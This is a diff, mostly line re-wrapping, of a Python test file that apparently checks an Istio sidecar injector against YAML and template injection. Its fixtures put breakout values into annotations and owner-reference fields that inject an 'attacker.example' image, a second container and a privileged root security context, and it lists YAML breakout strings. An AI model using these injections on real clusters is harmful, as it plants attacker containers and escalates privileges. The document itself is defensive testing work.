@@ -13,7 +13,8 @@ JSON = dict[str, Any]
 LEVEL = "sidecar.istio.io/componentLogLevel"
 IMAGE = "image: attacker.example/proxy:1"
 _CONFINED = (
-    "securityContext: {runAsUser: 1337, runAsGroup: 1337, runAsNonRoot: true, allowPrivilegeEscalation: false, "
+    "securityContext: {runAsUser: 1337, runAsGroup: 1337, runAsNonRoot: true, allowPrivilegeEscalation: "
+    "false, "
     "capabilities: {drop: [ALL]}, seccompProfile: {type: RuntimeDefault}}"
 )
 _SECOND = f"misc:error\n    {_CONFINED}\n  - name: enable-core-dump\n    image: attacker.example/evil:1\n"
@@ -21,7 +22,8 @@ _POWERFUL = "securityContext: {privileged: true, runAsUser: 0, capabilities: {ad
 
 
 def _line(text: str) -> str:
-    """A line of the container's own, after the argument that the value stands in; what follows goes where nobody reads."""
+    """A line of the container's own, after the argument that the value stands in; what follows goes where
+    nobody reads."""
     return f"misc:error\n    {text}\n    x-rest:"
 
 
@@ -34,7 +36,14 @@ class Attack:
 
 
 def _owner(**fields: Any) -> Callable[[JSON], None]:
-    reference = {"apiVersion": "apps/v1", "kind": "StatefulSet", "uid": "1", "controller": True, "name": "x", **fields}
+    reference = {
+        "apiVersion": "apps/v1",
+        "kind": "StatefulSet",
+        "uid": "1",
+        "controller": True,
+        "name": "x",
+        **fields,
+    }
 
     def change(template: JSON) -> None:
         template["metadata"]["ownerReferences"] = [reference]
@@ -52,7 +61,11 @@ ATTACKS = (
     Attack("log level", annotation("sidecar.istio.io/logLevel", _line(IMAGE))),
     Attack("agent's log level", annotation("sidecar.istio.io/agentLogLevel", _line(IMAGE))),
     Attack("second container", annotation(LEVEL, f"{_SECOND}    args:"), native=False),
-    Attack("second native container", annotation(LEVEL, f"{_SECOND}    restartPolicy: Always\n    args:"), native=True),
+    Attack(
+        "second native container",
+        annotation(LEVEL, f"{_SECOND}    restartPolicy: Always\n    args:"),
+        native=True,
+    ),
     Attack("owner's name", _owner(name=f"x\n    {IMAGE}\n    x-rest:")),
     Attack("owner's kind", _owner(kind=f"x/y\n    {IMAGE}\n    x-rest: #")),
 )
@@ -72,8 +85,9 @@ LINES = (
 )
 """Texts that break out of a line, of double and of single quotes, of a list and of a map in braces."""
 PLAIN_TEXTS = (
-    '"', "'", "{}", "[]", "a: b", "- a", "*a", "&a", "!!binary x", "|", "#", "{{ .Values }}", "null", "~", "$(POD_NAME)", "\t",
-    "80@attacker.example", "@attacker.example/", "0", "TPROXY", "NONE", "debug", "a" * 70,
+    '"', "'", "{}", "[]", "a: b", "- a", "*a", "&a", "!!binary x", "|", "#", "{{ .Values }}", "null", "~",
+    "$(POD_NAME)", "\t", "80@attacker.example", "@attacker.example/", "0", "TPROXY", "NONE", "debug",
+    "a" * 70,
 )  # fmt: skip
 """Texts that mean something in YAML, in a template, in a URL or to the injector."""
 
@@ -132,7 +146,9 @@ def in_field(field: str) -> Iterator[Callable[[JSON, str], None]]:
         template["spec"]["serviceAccountName"] = text
 
     def prober(template: JSON, text: str) -> None:
-        template["spec"]["containers"][0]["readinessProbe"] = {"httpGet": {"path": text, "port": 8080, "host": text}}
+        template["spec"]["containers"][0]["readinessProbe"] = {
+            "httpGet": {"path": text, "port": 8080, "host": text}
+        }
 
     yield from {
         ".DeploymentMeta.Name": (owner("name"),),
